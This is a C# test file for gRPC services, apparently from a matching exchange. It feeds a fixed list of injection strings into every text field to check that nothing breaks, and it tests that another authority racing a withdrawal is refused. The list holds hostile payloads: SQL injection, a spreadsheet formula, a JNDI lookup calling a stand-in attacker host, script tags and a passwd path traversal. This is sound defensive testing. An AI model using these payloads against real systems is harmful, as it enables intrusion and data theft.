using CooperaNet.Matching.Items;
using CooperaNet.Matching.V1;
using Google.Protobuf;
using Google.Protobuf.Reflection;
using Grpc.Core;

namespace CooperaNet.Matching.ClusterTests.Access;

/// <summary>Strings that mean something to a database, a spreadsheet, a log or a browser, in every text field of every call; and a race for another's offer.</summary>
public class InjectionTests(ExchangeFixture exchange)
{
    private const string Owner = "authorities/uy";

    private static readonly string[] Strings =
    [
        "'; DROP TABLE history; --", "\" OR 1=1 --", "=HYPERLINK(\"https://evil.example.org\")", "@SUM(1+1)", "one\r\nfail: two", "\u001b[31mred", "<script>alert(1)</script>",
        "../../etc/passwd", "${jndi:ldap://evil.example.org}", "%s%n", "a\0b", "\ud83d\ude00\u202e", "{{7*7}}",
    ];

    private readonly CancellationToken cancellation = TestContext.Current.CancellationToken;

    [Fact]
    public async Task No_text_in_any_field_of_any_call_breaks_the_service()
    {
        var services = new[]
        {
            AuthorityServiceReflection.Descriptor, AccountServiceReflection.Descriptor, ExchangeServiceReflection.Descriptor, CatalogServiceReflection.Descriptor, MatchingServiceReflection.Descriptor,
            StatisticsServiceReflection.Descriptor, QualityServiceReflection.Descriptor, AdminServiceReflection.Descriptor,
        }.SelectMany(file => file.Services);
        var calls = services.SelectMany(service => service.Methods).Where(method => !method.IsClientStreaming && !method.Name.StartsWith("Watch", StringComparison.Ordinal))
            .SelectMany(method => Fields(method.InputType, depth: 0).SelectMany(path => Strings.Select(text => (method, path, text)))).ToList();
        Assert.True(calls.Count > 1_000, $"{calls.Count} calls");
        var broken = new List<string>();

        await Parallel.ForEachAsync(calls, new ParallelOptions { MaxDegreeOfParallelism = 8, CancellationToken = cancellation }, async (call, token) =>
        {
            foreach (var participant in (string[])[Owner, ""])
            {
                var request = call.method.InputType.Parser.ParseFrom(ByteString.Empty);
                if (call.method.InputType.FindFieldByName("parent") is { } parent)
                {
                    parent.Accessor.SetValue(request, Owner);
                }

                Set(request, call.path, call.text);
                var status = await CallAsync(exchange.As(participant), call.method, request, token);
                if (status is StatusCode.Internal or StatusCode.Unknown or StatusCode.Unavailable or StatusCode.DataLoss)
                {
                    lock (broken)
                    {
                        broken.Add($"{call.method.Name} {string.Join('.', call.path.Select(field => field.Name))} '{call.text}': {status}");
                    }
                }
            }
        });

        Assert.Empty(broken);
        Assert.NotEmpty((await exchange.GetAsync("/v1/auditEvents?pageSize=1"))["events"]!.AsArray());
    }

    [Fact]
    public async Task Another_authority_that_races_a_withdrawal_changes_nothing()
    {
        var (own, foreign) = (new ExchangeService.ExchangeServiceClient(exchange.As(Owner)), new ExchangeService.ExchangeServiceClient(exchange.As("authorities/cl")));
        for (var i = 0; i < 10; i++)
        {
            var name = $"{Owner}/offers/raced-{i}";
            await own.CreateOfferAsync(new() { Parent = Owner, OfferId = $"raced-{i}", Offer = new() { Title = "Raced for", LanguageCode = "en" } }, cancellationToken: cancellation);
            await own.PublishOfferAsync(new() { Name = name }, cancellationToken: cancellation);

            var refusals = Enumerable.Range(0, 8).Select(async n =>
            {
                var refusal = await Assert.ThrowsAsync<RpcException>(async () => await (n % 3 == 0 ? foreign.UpdateOfferAsync(new() { Offer = new() { Name = name, Title = "Taken" } }, cancellationToken: cancellation)
                    : n % 3 == 1 ? foreign.WithdrawOfferAsync(new() { Name = name }, cancellationToken: cancellation) : foreign.PublishOfferAsync(new() { Name = name }, cancellationToken: cancellation)));
                return refusal.StatusCode;
            }).ToList();
            await own.WithdrawOfferAsync(new() { Name = name }, cancellationToken: cancellation);

            Assert.All(await Task.WhenAll(refusals), status => Assert.Contains(status, (StatusCode[])[StatusCode.PermissionDenied, StatusCode.NotFound]));
            var left = (await exchange.Grains.GetItem(ItemId.Parse(name, ItemKind.Offer, "name")).FindAsync(Caller.System, cancellation))!;
            Assert.Equal((ItemState.Withdrawn, "Raced for", 3), (left.State, left.Content.Title, left.Revision));
        }
    }

    /// <summary>The paths of all text fields, also inside messages.</summary>
    private static IEnumerable<IReadOnlyList<FieldDescriptor>> Fields(MessageDescriptor message, int depth) => depth > 3 ? [] : message.Fields.InDeclarationOrder().Where(field => !field.IsMap).SelectMany(field => field.FieldType switch
    {
        FieldType.String => (IEnumerable<IReadOnlyList<FieldDescriptor>>)[[field]],
        FieldType.Message when field.MessageType.File.Package.StartsWith("cooperanet", StringComparison.Ordinal) => Fields(field.MessageType, depth + 1).Select(path => (IReadOnlyList<FieldDescriptor>)[field, .. path]),
        _ => [],
    });

    private static void Set(IMessage message, IReadOnlyList<FieldDescriptor> path, string text)
    {
        var field = path[0];
        object value = text;
        if (path.Count > 1)
        {
            var inner = (field.IsRepeated ? null : (IMessage?)field.Accessor.GetValue(message)) ?? field.MessageType.Parser.ParseFrom(ByteString.Empty);
            Set(inner, [.. path.Skip(1)], text);
            value = inner;
        }

        if (field.IsRepeated)
        {
            ((System.Collections.IList)field.Accessor.GetValue(message)).Add(value);
        }
        else
        {
            field.Accessor.SetValue(message, value);
        }
    }

    private static async Task<StatusCode> CallAsync(CallInvoker calls, MethodDescriptor method, IMessage request, CancellationToken cancellationToken)
    {
        var bytes = Marshallers.Create<byte[]>(value => value, value => value);
        var rpc = new Method<byte[], byte[]>(method.IsServerStreaming ? MethodType.ServerStreaming : MethodType.Unary, method.Service.FullName, method.Name, bytes, bytes);
        try
        {
            if (method.IsServerStreaming)
            {
                using var stream = calls.AsyncServerStreamingCall(rpc, null, new(cancellationToken: cancellationToken), request.ToByteArray());
                await stream.ResponseStream.MoveNext(cancellationToken);
            }
            else
            {
                await calls.AsyncUnaryCall(rpc, null, new(cancellationToken: cancellationToken), request.ToByteArray());
            }

            return StatusCode.OK;
        }
        catch (RpcException error)
        {
            return error.StatusCode;
        }
    }
}
